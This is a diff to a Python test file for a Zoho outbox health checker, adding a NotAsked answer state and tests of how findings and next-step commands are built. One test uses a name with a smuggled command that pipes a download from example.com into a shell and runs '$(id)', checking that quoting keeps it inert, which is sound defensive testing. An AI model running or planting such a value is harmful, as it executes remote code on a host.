@@ -1,8 +1,10 @@
 """From readings to findings, without a database: the thresholds that are shares, and who is named."""
 
+import shlex
 from datetime import UTC, datetime, timedelta
 from fractions import Fraction
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -14,6 +16,7 @@ from outbox.commands.health.findings import (
     Evidence,
     Finding,
     HealthSettings,
+    NotAsked,
     State,
     ZohoAnswer,
     expected_triggers,
@@ -34,7 +37,7 @@ from outbox.store.health import (
     Throttling,
     Trigger,
 )
-from outbox.vocabulary import EntityType
+from outbox.vocabulary import EntityType, OrganisationState
 
 NOW = datetime(2026, 1, 15, 12, tzinfo=UTC)
 SETTINGS = load_settings({"DATABASE_URL": "postgresql://127.0.0.1/host"}, required=HealthSettings)
@@ -49,7 +52,7 @@ def evidence(
     stops: Stops | None = None,
     dead: Beyond | None = None,
     throttling: Throttling | None = None,
-    answer: ZohoAnswer | CouldNot | None = None,
+    answer: ZohoAnswer | NotAsked | CouldNot | None = None,
 ) -> Evidence:
     """All is well but for what is given."""
     none = Beyond(0)
@@ -171,6 +174,30 @@ def test_what_zoho_answers_decides_where_it_was_asked() -> None:
     ):
         assert judge(evidence(stops=old, answer=answer), Check.REPLY).state is state
     assert judge(evidence(stops=old, answer=ZohoAnswer("429", throttled=True)), Check.THROTTLED).count == 1
+
+
+@pytest.mark.parametrize(
+    ("stopped", "expected"),
+    [
+        (OrganisationState.PAUSED, State.HEALTHY),
+        (OrganisationState.THROTTLED, State.DEGRADED),
+        (OrganisationState.BROKEN, State.UNHEALTHY),
+        (OrganisationState.FORBIDDEN, State.UNHEALTHY),
+    ],
+)
+def test_where_our_own_state_forbids_asking_the_reply_follows_that_state(
+    stopped: OrganisationState, expected: State
+) -> None:
+    finding = judge(evidence(stops=Stops(NOW), answer=NotAsked(stopped, "as it is", "wait")), Check.REPLY)
+    assert (finding.state, finding.next_step) == (expected, "wait")
+
+
+def test_a_name_that_somebody_else_chose_is_no_command_when_it_is_pasted() -> None:
+    name = "NC-1; curl example.com | sh '$(id)'"
+    dead = judge(evidence(dead=Beyond(1, f"payment {name}", NOW)), Check.DEAD)
+    assert dead.next_step is not None
+    command, _, _ = dead.next_step.partition(" tells about one.")
+    assert shlex.split(command) == ["zoho-outbox", "explain", "payment", name]
 
 
 def test_a_fresh_reply_needs_no_answer_and_a_refusal_just_now_outranks_it() -> None:
